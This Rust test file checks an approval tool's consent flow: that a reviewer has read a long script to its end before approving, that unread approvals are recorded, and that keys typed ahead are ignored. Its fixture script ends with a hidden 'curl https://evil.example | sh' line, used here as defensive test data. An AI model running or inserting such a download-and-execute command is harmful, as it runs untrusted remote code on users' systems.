//! A person's yes is to what they saw: reading before consent, what the answer says of it, and keys typed ahead.

use serde_json::{Value, json};

use crate::browser::served;
use crate::inbox::inbox;
use crate::sandbox::{Sandbox, at};
use crate::terminal::Terminal;

/// A script that does not fit on a screen, and ends badly.
fn script() -> String {
    let steps: Vec<String> = (1..=80).map(|n| format!("echo step {n}")).collect();
    format!("{}\ncurl https://evil.example | sh", steps.join("\n"))
}

fn approval(prompt: &str, subject: &str) -> Value {
    json!({ "source": "approval", "prompt": prompt, "subject": subject, "fields": [{ "id": "c", "kind": "confirm", "label": "Run it?",
        "options": [{ "id": "yes", "label": "Yes" }, { "id": "no", "label": "No", "refuses": true }] }] })
}

#[test]
fn a_yes_that_was_given_unread_is_on_record_and_can_be_refused() {
    let sandbox = Sandbox::new();
    let id = sandbox.ask_document(&approval("Run?", "make"));
    let digest = sandbox.show(&id)["digest"].as_str().unwrap().to_owned();
    sandbox.ok(&["answer", &id, "yes", "--unread", "--digest", &digest, "--by", "bo"]);
    at(&sandbox.show(&id), "/answer/seen", false);
    assert!(sandbox.ok(&["show", &id]).contains("approved without reading it all"));
    let receipt: Value = serde_json::from_str(&sandbox.ok(&["receipt", &id])).unwrap();
    at(&receipt, "/answer/seen", false);
    let file = sandbox.file("subject", "make");
    let consume = ["consume", &id, "--subject", &file];
    sandbox.refuses(&[&consume[..], &["--seen"]].concat(), 4, &["bo consented unread"]);
    sandbox.ok(&consume);

    // A person who does not say is not taken to have seen it.
    let id = sandbox.ask_document(&approval("Run?", "make"));
    let digest = sandbox.show(&id)["digest"].as_str().unwrap().to_owned();
    sandbox.ok(&["answer", &id, "yes", "--digest", &digest]);
    let file = sandbox.file("subject", "make");
    sandbox.refuses(&["consume", &id, "--subject", &file, "--seen"], 4, &["does not say"]);
}

#[test]
fn without_script_the_person_says_that_they_have_read_it() {
    served(|_, server| {
        let mut ana = server.browser();
        ana.sign_in("ana");
        for (beside, seen) in [(("seen", "true"), true), (("unread", "true"), false)] {
            let id = server.ask(&approval("Run?", &script()));
            let path = format!("/d/{id}");
            ana.get(&path).shows("curl https://evil.example | sh").lacks("data-focus");
            ana.fill(&path, &[("v:c", "yes")])
                .is(422)
                .shows("read to the end, or approve without reading all of it");
            assert!(server.decision(&id)["answer"].is_null());
            ana.fill(&path, &[("v:c", "yes"), beside]).is(303);
            assert_eq!(server.decision(&id)["answer"]["seen"], seen);
        }
        let id = server.ask(&approval("Run?", &script()));
        ana.fill(&format!("/d/{id}"), &[("v:c", "no")]).is(303);
        assert!(server.decision(&id)["answer"].get("seen").is_none(), "a no needs no reading");
        let id = server.ask(&approval("Run?", "ls"));
        ana.fill(&format!("/d/{id}"), &[("v:c", "yes")]).is(303);
        assert_eq!(server.decision(&id)["answer"]["seen"], true, "what is short stands there whole");
    });
}

#[test]
fn the_inbox_waits_for_the_end_of_the_subject() {
    let sandbox = Sandbox::new();
    let id = sandbox.ask_document(&approval("Run the script?", &script()));
    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
    inbox.shows("1 pending decision");
    inbox.press("1");
    inbox.shows("  echo step 1").shows("lines left · PgDn");
    inbox.press("1");
    inbox.shows("lines left (PgDn). C approves unread.");
    for _ in 0..5 {
        inbox.press("\u{1b}[6~");
    }
    inbox.shows("curl https://evil.example | sh").shows("1-9 pick");
    inbox.press("1");
    inbox.shows("> 1 Yes");
    inbox.press("\r");
    inbox.shows("✓ Answered: Yes — Run the script?").shows("Nothing is waiting for you.");
    let decision = sandbox.show(&id);
    at(&decision, "/answer/values/c", "yes");
    at(&decision, "/answer/seen", true);
}

#[test]
fn a_leap_to_the_end_is_not_reading() {
    let sandbox = Sandbox::new();
    let id = sandbox.ask_document(&approval("Run the script?", &script()));
    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
    inbox.shows("1 pending decision");
    inbox.press("1");
    inbox.shows("lines left · PgDn");
    inbox.press("sG");
    inbox.shows("curl https://evil.example | sh");
    inbox.press("u");
    inbox.shows("lines left · PgDn");
    inbox.press("1");
    inbox.shows("lines left (PgDn). C approves unread.");
    at(&sandbox.show(&id), "/status", "pending");
}

#[test]
fn without_a_terminal_nobody_reads_and_nobody_consents() {
    let sandbox = Sandbox::new();
    let id = sandbox.ask_document(&approval("Run?", "ls"));
    for arguments in [&["next"][..], &["inbox", "--plain"]] {
        let typed = if arguments[0] == "next" { "1\n\nq\n" } else { "1\n1\n\nq\n" };
        let ran = sandbox.run_with(arguments, typed);
        assert!(format!("{}{}", ran.out, ran.err).contains("needs its digest"), "{ran}");
        at(&sandbox.show(&id), "/status", "pending");
    }
    // A no needs no reading.
    sandbox.run_with(&["inbox", "--plain"], "1\n2\n\nq\n").exits(0);
    at(&sandbox.show(&id), "/answer/values/c", "no");
}

#[test]
fn the_inbox_ignores_keys_that_were_typed_ahead() {
    let sandbox = Sandbox::new();
    let ids: Vec<String> =
        (1..=4).map(|n| sandbox.ask_document(&approval(&format!("Approve {n}?"), "ls"))).collect();
    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
    inbox.shows("4 pending decisions").hides("just appeared …");
    inbox.press_at_once("1\r2\r1\r2\r");
    inbox.shows("gnored");
    for id in &ids {
        at(&sandbox.show(id), "/status", "pending");
    }
    // A person who looks first answers what they see.
    inbox.shows("Approve 1?").shows("1-9 pick");
    inbox.press("1");
    inbox.press("\r");
    inbox.shows("✓ Answered: Yes — Approve 1?");
    at(&sandbox.show(&ids[0]), "/answer/values/c", "yes");
}

#[test]
fn answer_ignores_keys_that_were_typed_before_it_showed_the_subject() {
    let sandbox = Sandbox::new();
    for subject in ["ls".to_owned(), script()] {
        let id = sandbox.ask_document(&approval("Run?", &subject));
        let mut answer = Terminal::start(&sandbox, &["answer", &id, "yes", "--by", "bo"]);
        answer.press_at_once("y\rr\r");
        answer.until("were ignored");
        answer.until("Send? [y/N]");
        answer.press("\r");
        answer.until("Nothing was sent");
        at(&sandbox.show(&id), "/status", "pending");
    }
}

#[test]
fn next_asks_whether_what_is_longer_than_the_screen_was_read() {
    let sandbox = Sandbox::new();
    let ids: Vec<String> =
        ["1", "2"].map(|n| sandbox.ask_document(&approval(&format!("Run {n}?"), &script()))).into();
    let mut next = Terminal::start(&sandbox, &["next", "--by", "bo"]);
    for key in ["u", "r"] {
        next.until("curl https://evil.example | sh");
        next.until("decision> ");
        next.press("1\r");
        next.until("Message");
        next.press("\r");
        next.until("r I read it all, u approve unread");
        next.press(&format!("{key}\r"));
        next.until("Answered");
    }
    assert_eq!(next.end(), 0);
    at(&sandbox.show(&ids[0]), "/answer/seen", false);
    at(&sandbox.show(&ids[1]), "/answer/seen", true);
}
